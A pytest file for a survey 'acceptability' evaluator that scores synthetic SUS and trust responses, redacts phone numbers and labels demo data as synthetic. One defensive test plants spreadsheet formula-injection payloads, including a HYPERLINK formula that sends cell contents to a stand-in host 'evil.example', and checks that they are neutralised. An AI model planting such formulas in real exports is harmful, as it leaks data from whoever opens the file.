"""The `acceptability` evaluator: the demo export and the store, scored into a run and its scorecard."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest
import yaml

from civiclab.plugins.evaluation import RunData, run_evaluators
from civiclab.plugins.experiment import load_experiment
from civiclab.records import Metric
from civiclab.survey.store import SurveyStore
from evaluators.acceptability import AcceptabilityParams, acceptability, redacted_export

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "experiments" / "data" / "survey" / "journey" / "responses.csv"


def with_survey(spec_path: Path, survey: dict | None, criteria: list[dict] | None = None) -> Path:  # type: ignore[type-arg]
    raw = yaml.safe_load(spec_path.read_text(encoding="utf-8"))
    if "acceptability" not in raw["evaluators"]:
        raw["evaluators"] = [*raw["evaluators"], "acceptability"]
    raw["survey"] = survey  # replaces the demo's own survey section, if it has one
    if survey is None:
        del raw["survey"]
    raw["scorecard"]["criteria"] += criteria or []
    spec_path.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
    return spec_path


def sus_by_hand(path: Path) -> tuple[float, int]:
    """An independent reading of the export: SUS of complete rows whose answers are all in 1-5."""
    scores = []
    with path.open(encoding="utf-8") as f:
        for row in csv.DictReader(f):
            values = [row[f"SUS[SQ{i:03d}]"] for i in range(1, 11)]
            if not row["submitdate"] or any(v and not 1 <= int(v) <= 5 for v in values):
                continue
            if sum(1 for v in values if not v) > 2:
                continue
            points = [
                2 if not v else (int(v) - 1 if i % 2 == 0 else 5 - int(v)) for i, v in enumerate(values)
            ]
            scores.append(2.5 * sum(points))
    return sum(scores) / len(scores), len(scores)


def metric(metrics: list[Metric], name: str, segment: str | None = None) -> Metric:
    return next(m for m in metrics if m.name == name and m.segment == segment)


@pytest.fixture
def spec_with_demo_survey(journey_spec: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    monkeypatch.chdir(tmp_path)  # the default survey store (./mlruns/survey.db) is this test's own
    target = journey_spec.parent / "data" / "survey" / "journey"
    target.mkdir(parents=True, exist_ok=True)  # the shared fixture may already have copied it
    shutil.copy(DEMO, target / "responses.csv")
    survey = {"responses": [{"path": "data/survey/journey/responses.csv", "synthetic": True}], "invited": 400}
    return with_survey(journey_spec, survey)


def test_scores_the_declared_export_and_archives_it(spec_with_demo_survey: Path, tmp_path: Path) -> None:
    exp = load_experiment(spec_with_demo_survey)
    run = RunData.for_experiment(exp, records=[], artifact_dir=tmp_path / "artifacts")
    metrics = acceptability(run, AcceptabilityParams())

    expected, n = sus_by_hand(DEMO)
    sus = metric(metrics, "acceptability.sus")
    assert sus.value == pytest.approx(expected) and sus.n == n
    assert sus.ci_low < sus.value < sus.ci_high  # type: ignore[operator]
    assert metric(metrics, "acceptability.respondents").value == 149
    # Every figure of generated answers says why it is not evidence about people, and from which file.
    assert {m.synthetic for m in metrics} == {
        "SYNTHETIC responses from responses.csv (demo data, not real people)"
    }
    assert metric(metrics, "acceptability.completion_rate").value == pytest.approx(149 / 179)
    assert metric(metrics, "acceptability.response_rate").value == pytest.approx(149 / 400)
    assert metric(metrics, "acceptability.rejected_rows").value == 1
    for name in (
        "acceptability.sus_alpha",
        "acceptability.trust",
        "acceptability.distrust",
        "acceptability.utaut.performance_expectancy",
        "acceptability.utaut.behavioural_intention",
    ):
        assert metric(metrics, name).value is not None, name
    assert 0.7 < metric(metrics, "acceptability.sus_alpha").value < 1  # type: ignore[operator]
    segmented = [m for m in metrics if m.segment is not None]
    assert segmented and all((m.n or 0) >= exp.spec.privacy.k_anonymity for m in segmented)
    assert {m.segment.split("=")[0] for m in segmented} >= {"age_band", "digital_literacy"}  # type: ignore[union-attr]

    folder = tmp_path / "artifacts" / "survey"
    # Every row and answer is archived; free-text personal data is redacted (the store keeps the original).
    from evaluators.acceptability import redacted_export

    assert (folder / "raw" / "responses.csv").read_bytes() == redacted_export(DEMO.read_bytes())
    assert b"06 12 34 56 78" not in (folder / "raw" / "responses.csv").read_bytes()
    report = json.loads((folder / "import-report.json").read_text())
    assert report["files"][0]["rejected"][0]["reason"] == "SUS[SQ004]: 6 is out of range 1-5"
    comments = (folder / "comments.jsonl").read_text(encoding="utf-8")
    assert comments and "06 12 34 56 78" not in comments
    assert set(run.artifacts) == {
        folder / "raw" / "responses.csv",
        folder / "import-report.json",
        folder / "comments.jsonl",
    }


def test_web_submissions_in_the_store_are_scored_with_the_invited_count(
    journey_spec: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    url = f"sqlite:///{tmp_path / 'survey.db'}"
    exp = load_experiment(with_survey(journey_spec, {"store": url}))
    store = SurveyStore(url)
    codes = store.create_invitations(exp.spec.name, 8)
    for code in codes[:6]:
        store.submit(
            exp.spec.name, code, {f"SUS[SQ{i:03d}]": 4 if i % 2 else 2 for i in range(1, 11)}, "fr", 4
        )
    store.close()
    run = RunData.for_experiment(exp, records=[], artifact_dir=tmp_path / "artifacts")
    metrics = acceptability(run, AcceptabilityParams())
    assert metric(metrics, "acceptability.sus").value == 75.0
    assert metric(metrics, "acceptability.response_rate").value == pytest.approx(6 / 8)
    assert metric(metrics, "acceptability.trust").value is None  # nobody answered it


def test_an_experiment_without_a_survey_gets_an_evaluator_error(journey_spec: Path, tmp_path: Path) -> None:
    exp = load_experiment(with_survey(journey_spec, None))
    run = RunData.for_experiment(exp, records=[], artifact_dir=tmp_path)
    metrics, errors = run_evaluators(run, [e for e in exp.evaluators if e.info.name == "acceptability"])
    assert errors == ["acceptability: EvaluatorError: the experiment has no `survey:` section to score"]
    assert metrics[0].name == "acceptability.acceptability.evaluator_error"


def test_a_run_carries_acceptability_into_mlflow_and_the_scorecard(
    spec_with_demo_survey: Path, store_uri: str
) -> None:
    from civiclab.run.runner import run_experiment
    from civiclab.store.tracker import Tracker

    criteria = [
        {"metric": "acceptability.sus", "label": "Usability (SUS)", "at_least": 50},
        {"metric": "acceptability.trust", "label": "Trust", "at_least": 6, "severity": "advisory"},
    ]
    raw = yaml.safe_load(spec_with_demo_survey.read_text())
    raw["scorecard"]["criteria"] += criteria
    spec_with_demo_survey.write_text(yaml.safe_dump(raw, allow_unicode=True))
    exp = load_experiment(spec_with_demo_survey, {"population.sessions": 30, "energy.tracker": "none"})
    result = run_experiment(exp, tracking_uri=store_uri)
    verdicts = {c.label: c.verdict for c in result.scorecard.criteria}
    assert verdicts["Usability (SUS)"] == "pass" and verdicts["Trust"] == "fail"
    logged = Tracker(store_uri).get_run(result.run_id).metrics
    assert logged["acceptability.sus"] == pytest.approx(sus_by_hand(DEMO)[0])
    assert "acceptability.sus/age_band/25-39" in logged
    assert (result.artifact_dir / "survey" / "raw" / "responses.csv").exists()  # type: ignore[operator]
    manifest = json.loads((result.artifact_dir / "manifest.json").read_text())  # type: ignore[operator]
    assert any("survey/raw/responses.csv" in name for name in manifest["artifacts"])


def test_archived_export_keeps_every_answer_but_no_personal_data_from_free_text() -> None:
    import csv
    import io

    from evaluators.acceptability import redacted_export

    raw = DEMO.read_bytes()
    assert b"06 12 34 56 78" in raw  # the synthetic export has a phone number in a comment
    archived = redacted_export(raw)
    assert b"06 12 34 56 78" not in archived and b"[PHONE]" in archived
    before = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    after = list(csv.reader(io.StringIO(archived.decode("utf-8"))))
    assert len(after) == len(before) and after[0] == before[0]
    changed = {
        before[0][c]
        for r in range(1, len(before))
        for c in range(len(before[0]))
        if before[r][c] != after[r][c]
    }
    assert changed and all(column.startswith("FB[") for column in changed)  # only free-text cells


# Guards issue 20: the archived copy of an export kept formula cells the admin export neutralises.
def test_the_archived_export_runs_no_formula_in_a_spreadsheet() -> None:
    import io

    formulas = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', "@SUM(A1)", "+1+1", "-2+3", "\tx"]
    rows = list(csv.reader(io.StringIO(DEMO.read_text(encoding="utf-8-sig"), newline="")))
    column = next(i for i, name in enumerate(rows[0]) if name.startswith("FB["))
    for row, formula in zip(rows[1:], formulas, strict=False):
        row[column] = formula
    rows[3][rows[0].index("SUS[SQ001]")] = "-2"  # a number stays a number
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows(rows)
    archived = list(csv.reader(io.StringIO(redacted_export(out.getvalue().encode()).decode(), newline="")))
    assert [row[column] for row in archived[1:6]] == ["'" + f for f in formulas]
    assert archived[3][rows[0].index("SUS[SQ001]")] == "-2"
    assert archived[0] == rows[0] and len(archived) == len(rows)


def test_a_re_run_from_stored_inputs_cannot_score_the_survey(journey_spec: Path, tmp_path: Path) -> None:
    # What verify builds (no loaded experiment): the survey section is not there to read.
    exp = load_experiment(journey_spec)
    run = RunData(experiment_name=exp.spec.name, k=5, seed=1, records=[], artifact_dir=tmp_path)
    metrics, errors = run_evaluators(run, [e for e in exp.evaluators if e.info.name == "acceptability"])
    assert errors == [
        "acceptability: EvaluatorError: the survey is read from the loaded experiment, which this run was not given"
    ]
    assert metrics[0].error is not None and metrics[0].value is None


# Guards issue 21: "a file's own `datasource: SYNTHETIC` column is ignored on import".
def test_an_import_marked_synthetic_in_its_own_column_makes_the_run_say_so(
    journey_spec: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from civiclab.cli import main
    from civiclab.scoring.scorecard import synthetic_evidence

    monkeypatch.chdir(tmp_path)
    url = f"sqlite:///{tmp_path / 'survey.db'}"
    exp = load_experiment(with_survey(journey_spec, {"store": url}))  # nothing declared synthetic
    assert main(["survey", "import", str(DEMO), "--experiment", exp.spec.name, "--store", url]) == 0
    run = RunData.for_experiment(exp, records=[], artifact_dir=tmp_path / "artifacts")
    metrics = acceptability(run, AcceptabilityParams())
    assert metric(metrics, "acceptability.respondents").value == sus_by_hand(DEMO)[1] == 149
    assert {m.synthetic for m in metrics} == {
        "SYNTHETIC responses from responses.csv (demo data, not real people)"
    }
    [line] = synthetic_evidence(metrics)
    assert line.startswith("acceptability: ") and "responses.csv" in line
    report = json.loads((tmp_path / "artifacts" / "survey" / "import-report.json").read_text())
    assert report["synthetic_files"] == ["responses.csv"]
